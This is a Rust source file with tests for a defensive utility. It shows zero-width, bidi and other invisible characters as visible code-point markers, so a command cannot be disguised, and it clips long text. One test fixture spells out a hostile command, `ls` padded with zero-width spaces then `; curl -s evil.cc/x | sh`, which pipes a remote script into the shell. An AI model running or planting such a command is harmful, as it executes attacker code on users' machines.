//! Text a person must read exactly as it runs: a command, a path, a URL, a tool's name.
//!
//! Characters that draw nothing or change how the rest is drawn (zero-width spaces, the
//! bidi overrides and isolates, other controls, spaces that are not U+0020) could make a
//! command look like another: `ls` followed by 300 zero-width spaces and `; curl … | sh`
//! reads as `ls…` when cut, and U+202E shows what follows it reversed. Each such character is
//! shown as its code point, `⟨U+202E⟩`, so the person sees that it is there and where.
//!
//! Cuts are counted on what is shown (so a marker counts as its eight characters, and a
//! command padded with invisible ones is cut early, not late), and a cut always says so.

use std::fmt::Write;

use unicode_general_category::{GeneralCategory as G, get_general_category};

/// How line breaks and tabs are shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lines {
    /// Kept as they are: text shown in a block that wraps and keeps line breaks.
    Kept,
    /// Shown as markers too: text on one line (a heading, a notification's first line, a
    /// subject), where a line break would otherwise vanish into a space.
    Marked,
}

/// Whether `c` draws nothing, or changes how what follows is drawn: controls (but the line
/// break and the tab, which a block shows as what they are), format
/// characters (zero-width, bidi, the byte-order mark, soft hyphen, tags), line and
/// paragraph separators, every space but U+0020, unassigned and private code points, and
/// the marks and fillers that are drawn as nothing (variation selectors, the combining
/// grapheme joiner, Hangul fillers, the Braille blank).
pub fn is_hidden(c: char) -> bool {
    if matches!(c, ' ' | '\n' | '\t') {
        return false;
    }
    match get_general_category(c) {
        G::Control
        | G::Format
        | G::LineSeparator
        | G::ParagraphSeparator
        | G::SpaceSeparator
        | G::PrivateUse
        | G::Surrogate
        | G::Unassigned => true,
        _ => matches!(
            c,
            '\u{034F}'
                | '\u{115F}'
                | '\u{1160}'
                | '\u{17B4}'
                | '\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{2800}'
                | '\u{3164}'
                | '\u{FE00}'..='\u{FE0F}'
                | '\u{FFA0}'
                | '\u{E0100}'..='\u{E01EF}'
        ),
    }
}

/// Whether `c` is shown as a marker under `lines`.
fn is_marked(c: char, lines: Lines) -> bool {
    match c {
        '\n' | '\t' => lines == Lines::Marked,
        c => is_hidden(c),
    }
}

/// The marker a hidden character is shown as: `⟨U+200B⟩`.
pub fn marker(c: char) -> String {
    format!("⟨U+{:04X}⟩", u32::from(c))
}

/// Whether `s` holds any character shown as a marker (line breaks and tabs not counted).
pub fn has_hidden(s: &str) -> bool {
    s.chars().any(is_hidden)
}

/// `s` with every hidden character (and, under `Lines::Marked`, every line break and tab)
/// shown as its marker.
pub fn visible(s: &str, lines: Lines) -> String {
    clip(s, usize::MAX, lines).text
}

/// What is shown of a text: its visible form, cut to a length.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Clipped {
    /// The visible form, or its beginning.
    pub text: String,
    /// How many characters of the visible form were left out (0: shown whole).
    pub left_out: usize,
    /// Whether the text held hidden characters (shown as markers).
    pub hidden: bool,
    /// How many bytes of the original text are shown: `&s[..taken]` is what `text` shows.
    pub taken: usize,
}

impl Clipped {
    /// Whether part of the text was left out.
    pub fn is_cut(&self) -> bool {
        self.left_out > 0
    }

    /// The text, followed, when cut, by a note saying how much was left out.
    pub fn with_note(&self) -> String {
        match self.left_out {
            0 => self.text.clone(),
            n => format!("{}… {}", self.text, cut_note(n)),
        }
    }
}

/// The note after a cut: `[cut: 2,731 more characters]`.
pub fn cut_note(left_out: usize) -> String {
    match left_out {
        1 => "[cut: 1 more character]".to_string(),
        n => format!("[cut: {} more characters]", thousands(n)),
    }
}

/// `s` made visible and cut to at most `max` characters of what is shown. A marker is never
/// split: the cut falls before it.
pub fn clip(s: &str, max: usize, lines: Lines) -> Clipped {
    let mut text = String::new();
    let mut shown = 0usize;
    let mut left_out = 0usize;
    let mut hidden = false;
    let mut taken = 0usize;
    for c in s.chars() {
        let marked = is_marked(c, lines);
        hidden |= marked && is_hidden(c);
        let width = if marked { marker(c).chars().count() } else { 1 };
        if left_out > 0 || shown + width > max {
            left_out += width;
            continue;
        }
        shown += width;
        taken += c.len_utf8();
        if marked {
            let _ = write!(text, "⟨U+{:04X}⟩", u32::from(c));
        } else {
            text.push(c);
        }
    }
    Clipped {
        text,
        left_out,
        hidden,
        taken,
    }
}

/// `1234567` as `1,234,567`.
fn thousands(n: usize) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, d) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(d);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zero_width_and_bidi_characters_are_shown_as_code_points() {
        assert_eq!(
            visible("ls\u{200B}\u{202E}x", Lines::Kept),
            "ls⟨U+200B⟩⟨U+202E⟩x"
        );
        for c in [
            '\u{0000}',
            '\u{001B}',
            '\u{007F}',
            '\u{00A0}',
            '\u{00AD}',
            '\u{061C}',
            '\u{200D}',
            '\u{200E}',
            '\u{2028}',
            '\u{2066}',
            '\u{2069}',
            '\u{FEFF}',
            '\u{E0041}',
            '\u{FE0F}',
            '\u{3164}',
            '\u{E000}',
            '\r',
        ] {
            assert!(is_hidden(c), "{:04X}", u32::from(c));
        }
        for c in ['a', ' ', 'é', 'ß', '→', '日', '|', '\u{0301}'] {
            assert!(!is_hidden(c), "{:04X}", u32::from(c));
        }
    }

    #[test]
    fn line_breaks_are_kept_in_a_block_and_marked_on_one_line() {
        assert_eq!(visible("a\n\tb", Lines::Kept), "a\n\tb");
        assert_eq!(visible("a\n\tb", Lines::Marked), "a⟨U+000A⟩⟨U+0009⟩b");
        assert!(!clip("a\nb", 10, Lines::Marked).hidden);
        assert!(clip("a\u{200B}", 10, Lines::Marked).hidden);
    }

    #[test]
    fn a_cut_counts_what_is_shown_and_says_so() {
        let padded = format!("ls{}; curl -s evil.cc/x | sh", "\u{200B}".repeat(300));
        let c = clip(&padded, 40, Lines::Marked);
        assert_eq!(c.text, format!("ls{}", "⟨U+200B⟩".repeat(4)));
        assert!(c.is_cut() && c.hidden);
        assert_eq!(c.left_out, 296 * 8 + "; curl -s evil.cc/x | sh".len());
        assert_eq!(
            c.with_note(),
            format!("{}… [cut: 2,392 more characters]", c.text)
        );
        let whole = clip("ls -la", 6, Lines::Marked);
        assert!(!whole.is_cut());
        assert_eq!(whole.with_note(), "ls -la");
    }

    #[test]
    fn large_counts_are_grouped() {
        assert_eq!(thousands(7), "7");
        assert_eq!(thousands(1000), "1,000");
        assert_eq!(thousands(1234567), "1,234,567");
        assert_eq!(cut_note(1), "[cut: 1 more character]");
    }
}
